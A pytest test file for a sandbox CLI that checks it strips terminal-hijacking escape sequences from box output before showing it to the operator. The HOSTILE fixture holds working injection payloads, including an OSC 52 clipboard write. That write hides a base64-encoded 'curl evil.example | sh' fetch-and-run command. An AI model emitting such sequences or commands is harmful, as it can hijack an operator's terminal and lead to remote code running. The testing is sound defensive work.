"""Issue 13 class 7: box-controlled bytes printed by the CLI must not drive the operator's
terminal (OSC 52 clipboard writes, window titles, DCS/APC, cursor and mode CSI). The CLI runs
on a real PTY (``pty.openpty``) as the operator's terminal; to a pipe it stays byte-exact."""

from __future__ import annotations

import errno
import os
import pty
import subprocess
import sys
from pathlib import Path

import pytest

from corral.output import TerminalFilter, for_terminal

pytestmark = pytest.mark.needs_bwrap

HOSTILE = (
    "before"
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: write the clipboard
    "\x1b]0;pwned title\x1b\\"  # OSC 0: window title
    "\x1bP+q544e\x1b\\"  # DCS: request terminfo
    "\x1b_apc payload\x1b\\"  # APC
    "\x1b[2J\x1b[H"  # clear screen, home
    "\x1b[?1049h"  # alternate screen
    "\x1b[31mred\x1b[0m"  # SGR colour: kept
    "\u009d8;;http://evil\u009c"  # C1 OSC (8-bit)
    "after\n"
)
DANGEROUS = (b"\x1b]", b"\x1bP", b"\x1b_", b"\x1b[2J", b"\x1b[?1049h", b"\xc2\x9d")


def _on_pty(argv: list[str], cwd: Path) -> bytes:
    """Run ``argv`` with stdout and stderr on a fresh PTY; everything it wrote there."""
    master, slave = pty.openpty()
    try:
        proc = subprocess.Popen(
            argv, stdin=subprocess.DEVNULL, stdout=slave, stderr=slave, cwd=cwd, close_fds=True
        )
        os.close(slave)
        slave = -1
        chunks = []
        while True:  # ends at EIO once the child (the last holder of the slave) exits
            try:
                data = os.read(master, 65536)
            except OSError as exc:
                if exc.errno != errno.EIO:
                    raise
                break
            if not data:
                break
            chunks.append(data)
        assert proc.wait(timeout=60) == 0
        return b"".join(chunks)
    finally:
        os.close(master)
        if slave >= 0:
            os.close(slave)


def _run_argv(tmp_path: Path, *extra: str) -> list[str]:
    script = tmp_path / "hostile.txt"
    script.write_text(HOSTILE, encoding="utf-8")
    return [sys.executable, "-m", "corral", "run", "--workspace", str(tmp_path), *extra, "--",
            "sh", "-c", "cat hostile.txt; cat hostile.txt >&2"]  # fmt: skip


def test_corral_run_on_a_terminal_strips_what_attacks_it(tmp_path: Path) -> None:
    seen = _on_pty(_run_argv(tmp_path), tmp_path)
    for bad in DANGEROUS:
        assert bad not in seen, (bad, seen)
    assert seen.count(b"before") == 2 and seen.count(b"after") == 2
    assert b"\x1b[31mred\x1b[0m" in seen  # colours survive


def test_corral_run_raw_passes_everything(tmp_path: Path) -> None:
    seen = _on_pty(_run_argv(tmp_path, "--raw"), tmp_path)
    assert b"\x1b]52;c;" in seen


def test_corral_run_to_a_pipe_is_byte_exact(tmp_path: Path) -> None:
    done = subprocess.run(_run_argv(tmp_path), capture_output=True, timeout=60, check=True)
    # corral's own warnings come first (rootless: the limits it enforces as rlimits)
    stderr = b"".join(
        line for line in done.stderr.splitlines(keepends=True) if not line.startswith(b"corral: ")
    )
    assert done.stdout == HOSTILE.encode() and stderr == HOSTILE.encode()


def test_corral_audit_on_a_terminal_strips_a_forged_line(tmp_path: Path) -> None:
    log = tmp_path / "audit.jsonl"
    log.write_text('{"kind": "command", "ts": 1}\n' + HOSTILE, encoding="utf-8")
    seen = _on_pty([sys.executable, "-m", "corral", "audit", str(log)], tmp_path)
    for bad in DANGEROUS:
        assert bad not in seen, (bad, seen)
    assert b"before" in seen


def test_one_sanitizer_keeps_text_newlines_tabs_and_colours() -> None:
    assert for_terminal("a\tb\r\nc\x1b[1;32mok\x1b[0m") == "a\tb\r\nc\x1b[1;32mok\x1b[0m"
    assert for_terminal("over\rwrite\x08\x07") == "overwrite"
    assert for_terminal("\x1b[31mx", colours=False) == "x"


def test_the_live_filter_holds_sequences_split_across_chunks() -> None:
    data = HOSTILE.encode()
    for size in (1, 2, 3, 7):
        shown = TerminalFilter()
        out = b"".join(shown.feed(data[i : i + size]) for i in range(0, len(data), size))
        out += shown.flush()
        assert out == for_terminal(HOSTILE).encode(), size


@pytest.mark.parametrize(
    "call",
    [
        "from corral.cli import _fail; _fail(M, 'sandbox_broken', 125, False)",
        "from corral.client.cli import _say_error; from corral.client.fast import ServerError; "
        "_say_error(ServerError('sandbox_broken', M, 500))",
    ],
)
def test_an_error_message_on_a_terminal_strips_what_attacks_it(tmp_path: Path, call: str) -> None:
    """An error message may carry what a box or a compromised agent wrote (an agent's error
    reply is passed on as its message): printed to the operator's terminal it is sanitized
    like output, in the CLI of this process and the one that goes through a server."""
    code = f"M = {HOSTILE!r}\n{call}"
    seen = _on_pty([sys.executable, "-c", code], tmp_path)
    assert not any(d in seen for d in DANGEROUS), seen
    assert b"before" in seen and b"after" in seen
